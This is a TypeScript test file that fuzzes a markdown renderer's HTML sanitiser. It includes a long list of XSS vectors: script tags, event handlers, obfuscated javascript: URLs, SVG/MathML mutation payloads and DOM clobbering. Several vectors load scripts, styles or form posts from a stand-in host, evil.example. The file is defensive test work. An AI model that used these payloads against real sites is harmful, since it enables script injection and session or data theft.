import fc from 'fast-check';
import type { Element } from 'hast';
import { describe, expect, it } from 'vitest';
import { renderTexts } from '../../src/rendering/markdown.ts';
import { elementsOf, reparsed } from './parsed.ts';

const TAGS = new Set(
  (
    'h2 h3 h4 h5 h6 p div section aside blockquote pre hr br wbr ul ol li dl dt dd details summary figure figcaption ' +
    'input table caption thead tbody tfoot tr th td a abbr b bdi bdo cite code del dfn em i ins kbd mark q rp rt ruby ' +
    's samp small span strike strong sub sup time tt u var'
  ).split(' '),
);
const ATTRIBUTES = new Set(
  (
    'id dir lang title href hrefLang rel role dataFootnoteRef dataFootnoteBackref dataFootnotes className cite dateTime ' +
    'open type disabled checked value start reversed align colSpan rowSpan scope'
  ).split(' '),
);
const CLASSES =
  /^(language-\S+|hljs|hljs-[\w-]+|\w+_+|task-list-item|contains-task-list|footnotes|data-footnote-backref)$/;

function faultsOf(html: string): string[] {
  const faults = elementsOf(html).flatMap((element) => [
    ...(TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
    ...Object.entries(element.properties).flatMap(([name, value]) => attributeFaults(element, name, value)),
    ...(element.tagName === 'input' && !(element.properties.type === 'checkbox' && element.properties.disabled)
      ? ['an input that works']
      : []),
  ]);
  return reparsed(html) === html ? faults : [...faults, `parsed again: ${reparsed(html)}`];
}

function attributeFaults({ tagName }: Element, name: string, value: unknown): string[] {
  if (!ATTRIBUTES.has(name)) return [`${tagName}[${name}]`];
  if (name === 'id' && !/^(s\d+-)?(h-|user-content-)/.test(String(value))) return [`id=${value}`];
  if (name === 'href' || name === 'cite') return addressFaults(String(value));
  if (name !== 'className') return [];
  return (value as string[]).filter((word) => !CLASSES.test(word)).map((word) => `class=${word}`);
}

/** As a browser resolves it, which drops tabs, line ends and leading control characters. */
function addressFaults(address: string): string[] {
  const url = URL.parse(address, 'https://copse.example/articles/a');
  return url === null || ['https:', 'http:', 'mailto:'].includes(url.protocol) ? [] : [`address ${address}`];
}

const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  'text <script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+" alt="a">',
  '<image src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
  '<p/onclick=alert(1)>x</p>',
  '<input autofocus onfocus=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#x01;javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://copse.example/1">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java&#x0A;script:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]( vbscript:x "t\\" onclick=alert(1)")',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<vbscript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x"onerror="alert(1)](https://e.example/a.png)',
  '![x](https://e.example/a.png"onerror="alert(1))',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe src="https://e.example/"><script>alert(1)</script></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object data="https://e.example/x.swf"><embed src="data:text/html,x"></object>',
  '<embed src="javascript:alert(1)">',
  '<video src="javascript:alert(1)" onerror=alert(1)><source src=x onerror=alert(1)></video>',
  '<audio><source src="data:audio/mp3,x"></audio>',
  '<form action="https://evil.example"><input name=token><button formaction="javascript:alert(1)">x</button></form>',
  '<isindex action=javascript:alert(1) type=submit>',
  '<select><option onclick=alert(1)>x</select><keygen autofocus onfocus=alert(1)>',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(//evil.example/t)">x</p>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<table background="javascript:alert(1)"><td background=x>x</table>',
  '<a id=location>x</a><a id=document name=cookie>y</a>',
  '# location\n\n# cookie\n\n<h2 id="body">x</h2>',
  '<p id=getElementById><p name=forms>',
  '[^constructor]\n\n[^constructor]: <b id=__proto__>x</b>',
  '<blockquote cite="javascript:alert(1)">x</blockquote><q cite="data:x">y</q>',
  '<a target=_blank ping="https://evil.example" download href="https://e.example">x</a>',
  '<b><i><b></i><a href=https://e.example><p><a href=https://f.example></b>',
  '<table><tr><p><td><table></p><caption><a><td></table>',
  '<div dir="rtl" markdown="1" onclick="x">\n\n**x**\n\n</div>',
  '- [ ] <input type="text" onfocus="alert(1)"> x',
  '<li class="task-list-item evil"><input type=submit></li>',
  '```js" onload="alert(1)\nx\n```',
  '<pre><code class="language-js evil" onclick=x>let a</code></pre>',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
];

describe('rendered HTML', () => {
  it.each(VECTORS)('holds nothing that runs, loads or shadows: %j', (vector) => {
    for (const source of [vector, `Text ${vector} text`, `> ${vector}`, `# ${vector}\n\n${vector}`]) {
      expect(faultsOf(renderTexts([source])[0]!.html)).toEqual([]);
    }
  });

  it('is safe for any mix of hostile pieces', () => {
    const pieces = VECTORS.flatMap((vector) => [vector, ...vector.split(/(?=[<>"'&\]])/)]);
    const mixes = fc.array(fc.constantFrom(...pieces, '\n\n', '\n', '> ', '- ', '`', '*', '</', '&lt;'), {
      maxLength: 12,
    });
    fc.assert(
      fc.property(mixes, (mix) => {
        expect(faultsOf(renderTexts([mix.join('')])[0]!.html)).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  it('drops scripts and styles with their text, and keeps the text of other elements', () => {
    const [text] = renderTexts([
      '<script>one()</script><style>two{}</style><svg><text>three</text></svg><form>four</form>',
    ]);
    expect(text!.html).toBe('four');
  });

  it('finds faults where there are some', () => {
    expect(faultsOf('<p onclick="x">a</p>')).toEqual(['p[onClick]']);
    expect(faultsOf('<script>x</script>')).toEqual(['<script>']);
    expect(faultsOf('<a href="java\tscript:x">a</a>')).toEqual(['address java\tscript:x']);
    expect(faultsOf('<p id="location">a</p>')).toEqual(['id=location']);
    expect(faultsOf('<p><p></p></p>')).toHaveLength(1);
  });
});
